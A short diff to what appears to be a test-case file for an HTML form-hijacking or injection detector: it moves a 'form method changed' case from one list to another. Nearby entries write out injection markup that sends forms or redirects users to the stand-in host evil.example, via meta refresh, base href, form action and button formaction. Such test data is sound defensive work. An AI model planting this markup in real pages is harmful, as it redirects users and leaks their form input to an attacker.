@@ -286,6 +286,7 @@ MOVES = [
         "field in a template element", "mandatory", "unprotected", (FIELD, f"<template>{FIELD}</template>")
     ),
     _move("field swallowed by an unclosed style", "grammar", "unprotected", ("</style>", "")),
+    _move("form method changed", "form", "unprotected", ('method="post"', 'method="get"')),
 ]
 
 
@@ -332,7 +333,6 @@ MARKUP = [
     _markup("meta refresh", "url", '<meta http-equiv="refresh" content="0;url=//evil.example/">'),
     _markup("base", "form", '<base href="//evil.example/">', "<title>Films</title>"),
     _markup("form target changed", "form", 'action="//evil.example/"', 'action="/send"'),
-    _markup("form method changed", "form", 'method="get" class="evil"', 'method="post"'),
     _markup("button that sends elsewhere", "form", '<button formaction="//evil.example/">', "<button>"),
     _markup(
         "button outside that sends elsewhere",
